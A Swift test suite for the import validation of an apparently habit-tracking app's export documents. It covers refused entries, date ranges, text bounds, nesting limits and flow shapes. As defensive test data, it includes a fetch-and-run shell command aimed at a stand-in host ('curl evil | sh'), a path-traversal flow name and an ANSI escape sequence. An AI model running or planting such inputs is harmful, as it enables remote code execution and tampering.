import Foundation
import Testing

@testable import NudgeCore

/// An import document is held to what the flows allow; the first offending path is named.
@Suite struct ImportValidationTests {
  static let day = Day(year: 2026, month: 11, day: 20)

  func refusal(_ document: ExportDocument) -> String? {
    do {
      try document.validate()
      return nil
    } catch { return error.message }
  }

  func document(
    prep: [PrepEntry] = [], review: [ReviewEntry] = [], checkin: [CheckinEntry] = [],
    help: [HelpNote] = [], settings: [String: String] = [:], pauses: [Pause] = []
  ) -> ExportDocument {
    ExportDocument(
      settings: settings, prep: prep, review: review, checkin: checkin, help: help,
      pauses: pauses)
  }

  @Test func anEntryTheFlowWouldRefuseIsRefused() {
    let empty = PrepEntry(day: Self.day, savedAt: "2026-11-20T21:00:00+01:00")
    #expect(refusal(document(prep: [empty]))?.hasPrefix("prep[0] has no item ready") == true)
    let noCommitment = ReviewEntry(
      day: Self.day, why: "health", savedAt: "2026-11-20T08:00:00+01:00")
    #expect(
      refusal(document(review: [noCommitment]))?.hasPrefix("review[0] has no commitment") == true)
    let blank = CheckinEntry(day: Self.day, blocker: "rain", savedAt: "2026-11-20T22:00:00+01:00")
    #expect(refusal(document(checkin: [blank]))?.hasPrefix("checkin[0] has no answer") == true)
  }

  @Test func daysAndTimesOutsideTheRangeAreRefused() {
    let far = PrepEntry(
      day: Day(year: 10000, month: 1, day: 1), water: true, savedAt: "2026-11-20T21:00:00+01:00")
    #expect(
      refusal(document(prep: [far]))?.hasPrefix("prep[0].day is 10000-01-01, outside") == true)
    let early = PrepEntry(day: Self.day, water: true, savedAt: "1960-01-01T00:00:00Z")
    #expect(refusal(document(prep: [early]))?.contains("prep[0].saved_at") == true)
  }

  @Test func aSaveBeforeItsDayIsRefused() {
    let forged = PrepEntry(day: Self.day, water: true, savedAt: "2026-11-01T21:00:00+01:00")
    #expect(refusal(document(prep: [forged]))?.contains("comes before the entry's day") == true)
  }

  @Test func aNoteWhoseDayDoesNotMatchItsTimeIsRefused() {
    func note(_ day: Day, _ at: String) -> HelpNote {
      HelpNote(id: "n1", day: day, category: .stress, note: nil, at: at)
    }
    #expect(refusal(document(help: [note(Self.day, "2026-11-20T15:00:00+01:00")])) == nil)
    // before the rollover: the evening before
    #expect(refusal(document(help: [note(Self.day, "2026-11-21T01:00:00+01:00")])) == nil)
    let message = refusal(document(help: [note(Self.day, "2026-11-25T15:00:00+01:00")]))
    #expect(message == "help[0].day 2026-11-20 does not match its time 2026-11-25T15:00:00+01:00.")
  }

  @Test func idsAndTextsAreBounded() {
    let badID = HelpNote(
      id: "a b", day: Self.day, category: .habit, note: nil, at: "2026-11-20T15:00:00+01:00")
    #expect(refusal(document(help: [badID]))?.contains("help[0].id") == true)
    let long = PrepEntry(
      day: Self.day, other: String(repeating: "x", count: FreeText.maxLength + 1),
      savedAt: "2026-11-20T21:00:00+01:00")
    #expect(refusal(document(prep: [long]))?.contains("longer than") == true)
    let marks = PrepEntry(
      day: Self.day, other: "a" + String(repeating: "\u{301}", count: 20_000),
      savedAt: "2026-11-20T21:00:00+01:00")
    #expect(refusal(document(prep: [marks]))?.contains("longer than") == true)
  }

  /// Plain ASCII text is judged without `FreeText.clean`; at its edges it is judged the same.
  @Test func textIsCleanOrNamedWhateverItsCharacters() {
    func other(_ text: String) -> String? {
      refusal(
        document(prep: [
          PrepEntry(day: Self.day, other: text, savedAt: "2026-11-20T21:00:00+01:00")
        ]))
    }
    for clean in [
      "x", "walk the dog", "a  b", String(repeating: "y", count: FreeText.maxLength), "é",
    ] {
      #expect(other(clean) == nil, "\(clean)")
    }
    for (text, words) in [
      ("", "prep[0].other has surrounding spaces or is empty"), (" x", "surrounding spaces"),
      ("x ", "surrounding spaces"), ("\u{A0}x", "surrounding spaces"), ("a\tb", "control"),
      ("a\u{7F}", "control"), (String(repeating: "y", count: FreeText.maxLength + 1), "longer"),
    ] {
      #expect(other(text)?.contains(words) == true, "\(text): \(other(text) ?? "nil")")
    }
  }

  @Test func aTerminalSettingIsNotCheckedBecauseItIsNeverTaken() {
    #expect(refusal(document(settings: ["terminal": "sh -c 'curl evil | sh'"])) == nil)
    #expect(ExportDocument.machineSettings.contains(.terminal))
    #expect(refusal(document(settings: ["snooze": "999h"]))?.hasPrefix("settings.snooze") == true)
  }

  @Test func deepNestingAndHugeDocumentsAreRefusedBeforeDecoding() {
    let deep = Data(
      (String(repeating: "[", count: 1_000_000) + String(repeating: "]", count: 1_000_000)).utf8)
    let error = #expect(throws: InputError.self) { try ExportDocument.decode(deep) }
    #expect(error?.message.contains("nest deeper than") == true)
    let huge = Data(count: ExportDocument.maxBytes + 1)
    #expect(throws: InputError.self) { try ExportDocument.decode(huge) }
    // brackets inside strings are text, not nesting
    let quoted = Data(
      #"{"format": "nudge-export", "note": "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[\"[[["}"#.utf8)
    #expect(throws: Never.self) { try ExportDocument.checkNesting(quoted) }
  }

  @Test func nothingAfterTodayThatNoFlowCouldHaveSaved() {
    let now = InstantFormat.parse("2026-11-20T21:00:00+01:00")!
    let tomorrow = PrepEntry(
      day: Self.day.adding(days: 1), water: true, savedAt: "2026-11-20T23:00:00+01:00")
    #expect(throws: Never.self) {
      try document(prep: [tomorrow]).checkNotAfter(day: Self.day, now: now)
    }
    let later = PrepEntry(
      day: Self.day.adding(days: 2), water: true, savedAt: "2026-11-22T21:00:00+01:00")
    let error = #expect(throws: InputError.self) {
      try document(prep: [tomorrow, later]).checkNotAfter(day: Self.day, now: now)
    }
    #expect(error?.message.hasPrefix("prep[1].day is 2026-11-22") == true)
  }

  @Test func overlappingPausesAreRefused() {
    let a = Pause(firstDay: Self.day, lastDay: Self.day.adding(days: 4))
    let b = Pause(firstDay: Self.day.adding(days: -2), lastDay: Self.day.adding(days: 1))
    #expect(refusal(document(pauses: [a, b]))?.contains("overlaps") == true)
    let c = Pause(firstDay: Self.day.adding(days: 5), lastDay: Self.day.adding(days: 6))
    #expect(refusal(document(pauses: [a, c])) == nil)
  }

  @Test func aDefinedFlowsEntriesAreHeldToTheShapesAnyFlowAllows() {
    let saved = "2026-11-20T08:00:00+01:00"
    func flows(_ entries: [AnsweredEntry]) -> String? {
      refusal(
        ExportDocument(
          settings: [:], prep: [], review: [], checkin: [], help: [], flows: entries))
    }
    let walk = AnsweredEntry(
      flow: "walk", day: Self.day, answers: FlowAnswers(values: ["minutes": "20"]), savedAt: saved)
    #expect(flows([walk]) == nil)
    var notAWord = walk
    notAWord.flow = "../walk"
    #expect(flows([notAWord])?.hasPrefix("flows[0].flow is not a flow's word") == true)
    #expect(flows([walk, walk])?.hasPrefix("flows[1] repeats walk on 2026-11-20") == true)
    var empty = walk
    empty.answers = FlowAnswers()
    #expect(flows([empty])?.hasPrefix("flows[0].answers must hold 1 to 24") == true)
    var badKey = walk
    badKey.answers = FlowAnswers(values: ["Minutes!": "20"])
    #expect(flows([badKey])?.hasPrefix("flows[0].answers has a key that is not") == true)
    var control = walk
    control.answers = FlowAnswers(values: ["felt": "fine\u{1B}[2J"])
    #expect(flows([control])?.contains("control character") == true)
    var early = walk
    early.savedAt = "2026-11-19T08:00:00+01:00"
    #expect(flows([early])?.contains("comes before the entry's day") == true)
  }

  @Test func versionOneDocumentsStillDecodeWithNoFlows() throws {
    let text = """
      {"format": "nudge-export", "version": 1, "settings": {}, "prep": [], "review": [],
       "checkin": [], "help": []}
      """
    let document = try ExportDocument.decode(Data(text.utf8))
    #expect(document.version == 1 && document.flows.isEmpty)
  }
}
